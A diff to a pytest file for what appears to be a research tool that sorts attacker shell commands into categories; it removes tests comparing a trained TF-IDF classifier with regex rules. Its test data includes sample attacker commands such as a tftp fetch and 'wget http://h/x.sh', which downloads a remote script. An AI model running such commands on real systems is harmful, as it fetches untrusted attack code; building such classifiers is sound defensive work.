@@ -141,75 +141,3 @@ class TestPrecedence:
     def test_tftp_counts_as_ftp_tool(self):
         # "tftp" contains the "ftp" token, as in the paper's generic rules
         assert DEFAULT_CLASSIFIER.classify_text("tftp -g -r f h") == "gen_ftp"
-
-
-@pytest.mark.cluster
-class TestFastPathAgreement:
-    """Trained TF-IDF → softmax fast path vs the regex rule table.
-
-    The regex rules are the oracle; the learned classifier must agree
-    on the generated corpus above a pinned floor (measured 0.906 on the
-    default dataset), with the disagreements rendered as the failure
-    artifact so a regression is diagnosable from the pytest output."""
-
-    #: Pinned agreement floor for the default paper-scale corpus.
-    AGREEMENT_FLOOR = 0.85
-
-    @pytest.fixture(scope="class")
-    def corpus(self, dataset):
-        return dataset.database.command_sessions()
-
-    @pytest.fixture(scope="class")
-    def trained(self, corpus):
-        from repro.analysis.fastpath import FastPathClassifier
-
-        return FastPathClassifier.train(corpus)
-
-    def test_agreement_above_pinned_floor(self, trained, corpus):
-        from repro.analysis.fastpath import agreement_report
-
-        report = agreement_report(trained, corpus)
-        assert report.agreement >= self.AGREEMENT_FLOOR, (
-            "fast path drifted from the regex rules:\n" + report.render()
-        )
-
-    def test_fastpath_labels_are_rule_categories(self, trained):
-        valid = set(CATEGORY_NAMES) | {UNKNOWN_CATEGORY}
-        assert set(trained.classes) <= valid
-        for text in CANONICAL.values():
-            assert trained.classify_text(text) in valid
-
-    def test_training_is_deterministic(self, corpus):
-        from repro.analysis.fastpath import FastPathClassifier
-
-        subset = corpus[:300]
-        first = FastPathClassifier.train(subset)
-        second = FastPathClassifier.train(subset)
-        assert first.classes == second.classes
-        assert first.vocabulary.terms == second.vocabulary.terms
-        assert (first.weights == second.weights).all()
-
-    def test_report_renders_disagreements_readably(self):
-        from repro.analysis.fastpath import AgreementReport
-
-        report = AgreementReport(
-            total=10,
-            agreeing=8,
-            disagreements=[
-                ("wget http://h/x.sh", "update_attack", "unknown"),
-                ("x" * 150, "unknown", "gen_wget"),
-            ],
-        )
-        artifact = report.render(limit=1)
-        assert "8/10" in artifact and "80.0%" in artifact
-        assert "rules='update_attack' fastpath='unknown'" in artifact
-        assert "1 more disagreement" in artifact
-        assert report.agreement == pytest.approx(0.8)
-
-    def test_agreement_gauge_is_published(self, trained, corpus):
-        from repro import telemetry
-        from repro.analysis.fastpath import agreement_report
-
-        with telemetry.collecting() as registry:
-            report = agreement_report(trained, corpus[:50])
-        assert registry.gauges["fastpath.agreement"] == report.agreement
